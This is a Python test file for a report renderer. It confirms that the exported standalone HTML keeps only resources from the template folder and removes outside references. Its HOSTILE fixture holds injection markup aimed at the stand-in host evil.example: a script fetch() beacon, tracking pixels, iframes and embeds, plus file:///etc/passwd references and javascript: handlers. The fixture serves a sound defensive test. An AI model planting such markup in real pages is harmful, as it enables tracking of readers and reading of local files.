"""Finding 9: the standalone HTML is as confined as the PDF.

It kept outside references (``http://`` and ``file://`` images, stylesheets, iframes) that
the PDF renderer refused. Now every reference goes through the PDF's fetcher: what is
inside the template folder is inlined, everything else is removed.
"""

from __future__ import annotations

import base64
import re
import shutil
from html.parser import HTMLParser

import pytest

from neurareport_resources.rendering import render_html, write_report_bundle
from neurareport_resources.rendering.standalone import standalone_html
from neurareport_resources.settings import BUILTIN_TEMPLATES

HOSTILE = """
<link rel="stylesheet" href="https://evil.example/track.css">
<link rel="stylesheet" href="file:///etc/passwd">
<link rel="icon" href="https://evil.example/favicon.ico">
<link rel="stylesheet" href="local.css">
<style>@import url("https://evil.example/i.css"); .x { background: url(http://evil.example/bg.png) }</style>
<base href="https://evil.example/">
<meta http-equiv="refresh" content="0; url=https://evil.example/">
<img src="https://evil.example/pixel.gif" alt="pixel">
<img src="file:///etc/passwd" alt="passwd">
<img src="logo.png" srcset="https://evil.example/2x.png 2x" alt="logo">
<img src="outside.png" alt="linked out">
<iframe src="https://evil.example/frame"><p>inside the frame</p></iframe>
<object data="https://evil.example/o.swf"></object>
<embed src="https://evil.example/e.swf">
<script src="https://evil.example/x.js"></script>
<script>fetch("https://evil.example/beacon")</script>
<svg><image href="https://evil.example/s.png"/></svg>
<p style="background-image: url('https://evil.example/p.png')" onclick="steal()">kept text</p>
<a href="https://bank.example/help">help</a> <a href="javascript:steal()">bad link</a>
"""

PIXEL = base64.b64decode(
    "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mP8z8BQDwAEhQGAhKmMIQAAAABJRU5ErkJggg=="
)


class _Fetches(HTMLParser):
    """Every URL a browser would fetch from the document (not links it may click)."""

    def __init__(self) -> None:
        super().__init__()
        self.urls: list[str] = []
        self.tags: list[str] = []
        self.handlers: list[str] = []

    def handle_starttag(self, tag, attrs):
        self.tags.append(tag)
        for name, value in attrs:
            if name.startswith("on"):
                self.handlers.append(name)
            fetched = name in ("src", "href", "data", "poster", "srcset", "background")
            if value and fetched and not (tag == "a" and name == "href"):
                self.urls.append(value)
            if value and name == "style":
                self.urls.extend(re.findall(r"url\(\s*['\"]?([^'\")]*)", value))

    handle_startendtag = handle_starttag

    def handle_data(self, data):
        self.urls.extend(re.findall(r"url\(\s*['\"]?([^'\")]*)", data))
        self.urls.extend(re.findall(r"@import\s+['\"]([^'\"]+)", data))


@pytest.fixture
def template(tmp_path):
    folder = tmp_path / "templates" / "hostile"
    shutil.copytree(BUILTIN_TEMPLATES / "monthly_account", folder)
    (folder / "logo.png").write_bytes(PIXEL)
    (folder / "local.css").write_text(".local { background: url(logo.png) } .y { color: red }")
    outside = tmp_path / "outside.png"
    outside.write_bytes(PIXEL)
    (folder / "outside.png").symlink_to(outside)
    html = (folder / "report.html").read_text()
    (folder / "report.html").write_text(html.replace("</body>", HOSTILE + "</body>", 1))
    return folder


def test_the_standalone_html_fetches_nothing_from_outside(template, context):
    blocked: list[str] = []
    page = standalone_html(render_html(template, context), template, blocked)
    found = _Fetches()
    found.feed(page)
    assert [url for url in found.urls if not url.startswith(("data:", "#"))] == []
    for tag in ("iframe", "object", "embed", "script", "base"):
        assert tag not in found.tags
    assert found.handlers == []
    assert "evil.example/help" not in page and "https://bank.example/help" in page
    assert "javascript:" not in page and "/etc/passwd" not in page
    assert "inside the frame" not in page and "kept text" in page
    # what is inside the template folder is inlined: the stylesheet and the image
    assert ".y { color: red }" in page and "<link" not in page
    assert f"data:image/png;base64,{base64.b64encode(PIXEL).decode()}" in page
    assert "Content-Security-Policy" in page and "default-src 'none'" in page
    assert any("evil.example" in url for url in blocked)


def test_the_bundle_writes_the_confined_html_and_reports_what_it_refused(
    template, context, tmp_path
):
    bundle = write_report_bundle(
        tmp_path / "out", basename="r", template_dir=template, context=context, formats=("html",)
    )
    page = (tmp_path / "out" / "r.html").read_text()
    assert "evil.example/pixel.gif" not in page and "<iframe" not in page
    assert any("pixel.gif" in url for url in bundle.blocked_resources)


def test_the_builtin_template_still_reads_well_on_its_own(context):
    html = render_html(BUILTIN_TEMPLATES / "monthly_account", context)
    page = standalone_html(html, BUILTIN_TEMPLATES / "monthly_account")
    assert "<style>" in page and 'rel="stylesheet"' not in page
    # the text of the report is unchanged
    text = re.sub(r"<[^>]+>", "", re.sub(r"<style>.*?</style>", "", page, flags=re.S))
    original = re.sub(r"<[^>]+>", "", re.sub(r"<link[^>]*>", "", html))
    assert " ".join(text.split()) == " ".join(original.split())
